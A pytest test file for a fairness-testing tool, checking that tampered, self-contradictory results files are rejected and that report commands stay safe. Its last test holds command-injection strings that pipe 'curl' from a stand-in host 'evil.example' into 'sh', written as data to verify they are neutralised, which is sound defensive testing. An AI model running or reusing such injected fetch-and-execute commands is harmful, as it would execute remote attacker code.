"""A record that contradicts itself is refused, whoever wrote it; an honest one and an older one are read."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from example_records import example_record, fairness_check, team_record

from fairgate.ground.errors import BaselineError
from fairgate.records import NeededApproval, RunRecord
from fairgate.reports import read_results, write_results
from fairgate.reports.results import contradictions
from fairgate.reports.run_remarks import approval_command, reproduce_command

Forger = Callable[[dict[str, Any]], None]


def check_of(data: dict[str, Any], item: str) -> dict[str, Any]:
    """The check of that id, subject and reference: `skew[nurse]`, `no-intersectional-regression@anchor[chef]`."""
    name, _, about = item.rstrip("]").partition("[")
    id_, _, against = name.partition("@")
    found: dict[str, Any] = next(
        check
        for check in data["checks"]
        if (check["id"], check["subject"] or "", check["against"] or "") == (id_, about, against)
    )
    return found


def forge(folder: Path, forger: Forger, record: RunRecord | None = None) -> Path:
    path = write_results(record or team_record(), folder)
    data = json.loads(path.read_text(encoding="utf-8"))
    forger(data)
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def setting(item: str, **fields: Any) -> Forger:
    return lambda data: check_of(data, item).update(fields)


def all_pass(data: dict[str, Any]) -> None:
    """A forger who knows that the verdict is counted from the checks."""
    data["verdict"] = "pass"
    for check in data["checks"]:
        check["verdict"] = "pass"


FORGED: list[tuple[str, Forger, str]] = [
    ("verdict", lambda data: data.update(verdict="pass"), "verdict: it says 'pass', and its checks add up to 'fail'"),
    ("every verdict", all_pass, "bound[doctor]): it passes with 0.87, which is beyond its bound of 0.9"),
    ("no checks", lambda data: data.update(checks=[], verdict="pass"), "its checks add up to 'error'"),
    ("doubled", lambda data: data["checks"].append(data["checks"][0]), "checks: 'fairness' is listed twice"),
    ("no value", setting("fairness", value=None), "checks[0] (fairness): it passes without a value"),
    ("no bound", setting("fairness", bound=None), "it passes without a bound"),
    ("beyond its bound", setting("fairness", value=0.1), "it passes with 0.1, which is beyond its bound of 0.85"),
    ("above its bound", setting("skew[chef]", value=2.0), "it passes with 2, which is beyond its bound of 0.6"),
    (
        "worse than the margin",
        setting("no-intersectional-regression[chef]", delta=-0.3),
        "it passes, worse by 0.3 than the baseline: its margin is 0.04",
    ),
    (
        "worse than the anchor",
        setting("no-intersectional-regression@anchor[chef]", delta=-0.3),
        "it passes, worse by 0.3 than the anchor: its margin is 0.04",
    ),
    (
        "nothing compared",
        setting("no-intersectional-regression[chef]", delta=None, p_adjusted=None),
        "it passes a comparison without a difference",
    ),
    ("no baseline", lambda data: data.update(baseline=None), "passes a comparison, and the record names no baseline"),
    ("no anchor", lambda data: data.update(anchor=None), "passes a comparison, and the record names no anchor"),
    (
        "a failing group",
        lambda data: check_of(data, "no-intersectional-regression[chef]")["groups"][0].update(verdict="fail"),
        "it passes, and its group 'light × female' fails",
    ),
    (
        "an undecided group",
        lambda data: check_of(data, "no-intersectional-regression[chef]")["groups"][0].update(verdict="inconclusive"),
        "it passes, and its group 'light × female' is inconclusive",
    ),
    (
        "a group too small to judge",
        setting("skew[chef]", min_sets=121),
        "it passes, and its group 'light' is in 120 of the 121 sets it takes",
    ),
    (
        "a group beyond the bound",
        lambda data: check_of(data, "skew[chef]")["groups"][1].update(value=0.7),
        "it passes, and its group 'tan' has 0.7, which is beyond 0.6",
    ),
    (
        "a failing group of an inconclusive check",
        lambda data: (
            check_of(data, "skew[pilot]")["groups"][0].update(verdict="fail"),
            check_of(data, "skew[pilot]").update(verdict="inconclusive"),
        ),
        "it is inconclusive, and its group 'light' fails",
    ),
    (
        "a doubled group",
        lambda data: check_of(data, "skew[chef]")["groups"].append(check_of(data, "skew[chef]")["groups"][0]),
        "groups: 'light' is listed twice",
    ),
    (
        "a waiver that holds for ever",
        lambda data: check_of(data, "skew[pilot]")["waiver"].update(expired=False),
        "its waiver until 2026-01-31 is said to hold on 2026-03-01",
    ),
    (
        "a waiver that is over too soon",
        lambda data: check_of(data, "skew[nurse]")["waiver"].update(expired=True),
        "its waiver until 2027-03-01 is said to have expired on 2026-03-01",
    ),
    (
        "a waiver without a day",
        lambda data: check_of(data, "skew[nurse]")["waiver"].update(until="for ever"),
        "its waiver's date 'for ever' is not a day",
    ),
    (
        "the milder definition",
        setting("fairness", decided_by="this change", other_bound=0.95, other_verdict="fail"),
        "the other definition says 'fail', which is stricter than what was decided",
    ),
    (
        "an anchor of a bound",
        setting("fairness", against="anchor"),
        "compared with the anchor, and its rule is 'at_least'",
    ),
    (
        "images that were not scored",
        lambda data: data["coverage"].update(scored_images=5),
        "coverage: not everything was scored, and the verdict is 'fail'",
    ),
    ("more than all", lambda data: data["coverage"].update(scored_sets=999), "999 of 720 sets cannot have been scored"),
    ("upside down", setting("fairness", lo=0.99, hi=0.9), "lo is above hi"),
    ("no probability", setting("no-intersectional-regression[chef]", p_adjusted=1.7), "p_adjusted is no probability"),
    ("fewer than none", setting("fairness", n_sets=-1), "n_sets is negative"),
    ("no time", lambda data: data.update(created_at="yesterday"), "created_at: 'yesterday' is not a time"),
]


@pytest.mark.parametrize(("forger", "said"), [one[1:] for one in FORGED], ids=[one[0] for one in FORGED])
def test_a_record_that_contradicts_itself_is_refused_with_place_and_remedy(
    tmp_path: Path, forger: Forger, said: str
) -> None:
    path = forge(tmp_path, forger)
    with pytest.raises(BaselineError, match="edited, forged or damaged") as caught:
        read_results(path)
    assert said in caught.value.problem
    assert caught.value.problem.startswith("the results file contradicts itself: ")
    assert str(path) in str(caught.value.where)


def test_of_many_contradictions_the_first_few_are_named(tmp_path: Path) -> None:
    path = forge(tmp_path, all_pass)
    with pytest.raises(BaselineError) as caught:
        read_results(path)
    assert caught.value.problem.count("; ") == 2


def test_honest_records_hold_no_contradiction(tmp_path: Path) -> None:
    for record in (example_record(), team_record(), example_record([]), example_record(team_record().checks[:1])):
        assert list(contradictions(record)) == []
        assert read_results(write_results(record, tmp_path)).verdict == record.verdict


def test_a_record_from_before_anchors_and_waivers_is_still_read(tmp_path: Path) -> None:
    def older(data: dict[str, Any]) -> None:
        for name in ("anchor", "definition", "warnings", "baseline_reason"):
            del data[name]
        for name in ("commit", "rescored", "unchanged"):
            del data["baseline"][name]
        for name in ("git_branch", "git_height", "pull_request"):
            del data["environment"][name]
        for check in data["checks"]:
            for name in ("against", "waiver", "decided_by", "other_bound", "other_verdict"):
                del check[name]

    whole = read_results(write_results(example_record(), tmp_path / "new"))
    assert read_results(forge(tmp_path / "old", older, example_record())) == whole


def test_a_record_from_before_groups_had_verdicts_of_their_own_is_still_read(tmp_path: Path) -> None:
    def older(data: dict[str, Any]) -> None:
        for check in data["checks"]:
            del check["min_sets"]
            for group in check["groups"]:
                del group["attribute"]
        held = check_of(data, "no-intersectional-regression[doctor]")  # clear by itself, and not after the correction
        held.update(verdict="inconclusive")
        data["verdict"] = "fail"

    assert read_results(forge(tmp_path, older)).verdict == "fail"


def test_groups_of_two_attributes_may_share_a_name(tmp_path: Path) -> None:
    def shared(data: dict[str, Any]) -> None:
        groups = check_of(data, "skew[chef]")["groups"]
        groups[0].update(group="other", attribute="skin_tone")
        groups[1].update(group="other", attribute="gender")

    assert read_results(forge(tmp_path, shared)).checks


def test_an_infinite_value_that_json_left_out_is_no_contradiction(tmp_path: Path) -> None:
    path = forge(tmp_path, setting("skew[chef]", value=None, lo=None, hi=None, status="infinite"))
    assert read_results(path).checks


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (
            "pytest --fairness-suite jobs --fairness-model 'hf:a b'",
            "pytest --fairness-suite jobs --fairness-model 'hf:a b'",
        ),
        ("pytest --fairness-suite jobs; curl -s https://evil.example/x|sh", "pytest --fairness-suite 'jobs;' curl"),
        ("curl -s https://evil.example/x | sh", ""),
        ("pytest -p evil --fairness-suite jobs", ""),
        ("fairgate check 'jobs", ""),
    ],
)
def test_a_forged_record_puts_no_command_of_its_own_into_a_report(command: str, shown: str) -> None:
    asked = NeededApproval(kind="dataset", what="v2", before="a" * 64, now="b" * 64)
    suite = "jobs; curl -s https://evil.example/x|sh #"
    record = example_record([fairness_check(None, 0.9)], command=command, needs_approval=[asked])
    assert reproduce_command(record).startswith(shown)
    assert bool(reproduce_command(record)) == bool(shown)
    forged = record.model_copy(update={"suite": suite})
    assert approval_command(forged) == "fairgate approve SUITE --from REPORT --reason TEXT"
